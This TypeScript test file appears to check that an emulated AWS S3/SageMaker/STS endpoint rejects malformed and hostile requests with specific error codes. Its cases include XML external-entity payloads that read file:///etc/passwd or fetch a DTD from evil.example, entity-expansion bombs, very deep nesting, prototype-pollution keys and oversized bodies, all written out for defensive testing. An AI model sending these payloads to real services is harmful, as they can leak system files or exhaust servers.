/** Documents that are broken, or bombs. */

import {
  BOMB,
  CREATED,
  create,
  deletion,
  type HostileRequest,
  http,
  JOB,
  json,
  md5,
} from "./request-shapes.ts";

/** Documents that are broken, or bombs. */
export const DOCUMENTS: readonly HostileRequest[] = [
  {
    name: "XML that does not end",
    send: deletion("<Delete><Object><Key>k"),
    answer: [400, "MalformedXML"],
  },
  {
    name: "XML of another kind",
    send: deletion("<CreateBucketConfiguration/>"),
    answer: [400, "MalformedXML"],
  },
  { name: "entities that explode", send: deletion(BOMB), answer: [400, "MalformedXML"] },
  {
    name: "an entity from a file",
    send: deletion(
      '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><Delete><Object><Key>&x;</Key></Object></Delete>',
    ),
    answer: [400, "MalformedXML"],
  },
  {
    name: "a document type from elsewhere",
    send: deletion(`<!DOCTYPE d SYSTEM "http://evil.example/d.dtd">${CREATED}`),
    answer: [400, "MalformedXML"],
  },
  {
    name: "an entity that nobody declared",
    send: deletion("<Delete><Object><Key>&evil;</Key></Object></Delete>"),
    answer: [400, "MalformedXML"],
  },
  {
    name: "XML that is deep",
    send: deletion(`<Delete>${"<Object>".repeat(100_000)}`),
    answer: [400, "MalformedXML"],
  },
  {
    name: "XML that is deep and well-formed",
    send: deletion(`<Delete>${"<a>".repeat(20_000)}${"</a>".repeat(20_000)}</Delete>`),
    answer: [400, "MalformedXML"],
  },
  {
    name: "XML in UTF-16",
    send: deletion(Buffer.from(`\ufeff${CREATED}`, "utf16le").toString("latin1")),
    answer: [400, "MalformedXML"],
  },
  {
    name: "more keys than S3 takes",
    send: deletion(`<Delete>${"<Object><Key>k</Key></Object>".repeat(1001)}</Delete>`),
    answer: [400, "MalformedXML"],
  },
  {
    name: "XML without its checksum",
    send: http("POST /bucket?delete", [], CREATED),
    answer: [400, "InvalidRequest"],
  },
  {
    name: "XML with another's checksum",
    send: http("POST /bucket?delete", [md5("x")], CREATED),
    answer: [400, "BadDigest"],
  },
  {
    name: "a prototype in XML",
    send: deletion("<__proto__><Key>k</Key></__proto__>"),
    answer: [400, "MalformedXML"],
  },
  {
    name: "JSON that does not end",
    send: json("SageMaker.ListTrainingJobs", '{"MaxResults":'),
    answer: [400, "SerializationException"],
  },
  {
    name: "JSON that is no structure",
    send: json("SageMaker.ListTrainingJobs", "[1,2]"),
    answer: [400, "SerializationException"],
  },
  {
    name: "JSON that is XML",
    send: json("SageMaker.ListTrainingJobs", CREATED),
    answer: [400, "SerializationException"],
  },
  {
    name: "JSON that is deep",
    send: json("SageMaker.ListTrainingJobs", `{"MaxResults":${"[".repeat(200_000)}`),
    answer: [400, "SerializationException"],
  },
  {
    name: "JSON that is deep and well-formed",
    send: json(
      "SageMaker.CreateTrainingJob",
      `{"Tags":${"[".repeat(200_000)}${"]".repeat(200_000)}}`,
    ),
    answer: [400, "SerializationException"],
  },
  {
    name: "JSON that is deep where nobody looks",
    send: create({}).replace(
      /\r\nContent-Length: \d+\r\n\r\n\{/,
      `\r\nContent-Length: ${JSON.stringify(JOB).length + 400_005}\r\n\r\n{"a":${"[".repeat(200_000)}${"]".repeat(200_000)},`,
    ),
    answer: [400, "SerializationException"],
  },
  {
    name: "an array without end",
    send: create({ Tags: Array.from({ length: 100_000 }, () => ({ Key: "k", Value: "v" })) }),
    answer: [400, "ValidationException"],
  },
  {
    name: "a map without end",
    send: create({
      HyperParameters: Object.fromEntries(
        Array.from({ length: 50_000 }, (_, at) => [`k${at}`, "v"]),
      ),
    }),
    answer: [400, "ValidationException"],
  },
  {
    name: "a wrong type",
    send: json("SageMaker.ListTrainingJobs", '{"MaxResults":{"a":1}}'),
    answer: [400, "SerializationException"],
  },
  {
    name: "a number beyond all pages",
    send: json("SageMaker.ListTrainingJobs", '{"MaxResults":1e308}'),
    answer: [400, "SerializationException"],
  },
  {
    name: "an operation that does not exist",
    send: json("SageMaker.__proto__", "{}"),
    answer: [404, "UnknownOperationException"],
  },
  {
    name: "a service that does not exist",
    send: json("constructor.name", "{}"),
    answer: [404, "UnknownOperationException"],
  },
  {
    name: "a body of 17 MiB",
    send: json("SageMaker.ListTrainingJobs", `{"a":"${"x".repeat(17 * 2 ** 20)}"}`),
    answer: [413, "RequestEntityTooLargeException"],
  },
  {
    name: "a form without an action",
    send: http("POST /", ["Content-Type: application/x-www-form-urlencoded"], "Version=2011-06-15"),
    answer: [400, "InvalidAction"],
  },
  {
    name: "a form's action that is a prototype's",
    send: http(
      "POST /",
      ["Content-Type: application/x-www-form-urlencoded"],
      "Action=constructor&Version=2011-06-15",
    ),
    answer: [400, "InvalidAction"],
  },
  {
    name: "a role with markup",
    send: http(
      "POST /",
      ["Content-Type: application/x-www-form-urlencoded"],
      "Action=AssumeRole&Version=2011-06-15&RoleArn=%3Cx%3E&RoleSessionName=s",
    ),
    answer: [400, "ValidationError"],
  },
];
